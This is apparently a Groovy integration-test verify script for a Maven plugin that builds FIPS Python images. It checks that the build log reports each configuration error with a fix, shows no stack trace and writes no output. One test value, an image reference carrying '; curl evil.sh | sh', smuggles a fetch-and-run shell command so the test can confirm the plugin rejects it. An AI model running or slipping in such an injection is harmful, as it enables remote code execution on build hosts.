def log = new File(basedir, 'build.log').text
// every problem at once, each naming the element and the fix
[
    '<matrix> (python 3.11, distro ubuntu)<python>: "3.11" is not a version',
    '<matrix> (python 3.11, distro ubuntu)<distro>: unknown distro "ubuntu"',
    '<matrix><platforms>: platform linux/s390x is not supported',
    '<imageName>: unknown placeholder(s) [{arch}]',
    '<policy>: unknown policy "lenient"',
    '<mirrors><mirror>[1]: "ftp://mirror.example.com/python-fips" is not a mirror',
    '<baseImages><rocky9>: "rockylinux:9; curl evil.sh | sh" is not a valid image reference',
    'Python 3.10 has no FIPS patch set',
    'cannot load into OpenSSL 1.0.2u',
    '<builtinHashes>: unknown value "some"',
    '<fipsCertificates><fipsCertificate>[1]<module>: "2.0.16" is not an OpenSSL 3 FIPS provider version',
    '<fipsCertificates><fipsCertificate>[1]<number>: "#4985" is not a CMVP certificate number',
    '<fipsCertificates><fipsCertificate>[1]<standard>: "FIPS 140" is not a FIPS standard',
    '<fipsCertificates><fipsCertificate>[1]<sunset>: "10/09/2030" is not an ISO date',
    '<fipsCertificates><fipsCertificate>[1]<url>: "http://csrc.nist.gov/x" is not an https URL',
].each { assert log.contains(it) : "missing from the log: ${it}" }
assert log.contains('fix: ')
assert log.contains('BUILD FAILURE')
assert !(log =~ /(?m)^\s+at [a-zA-Z_.$]+\(/) : 'a user mistake must not print a stack trace'
assert !new File(basedir, 'target/fips').exists() : 'nothing may be written'
return true
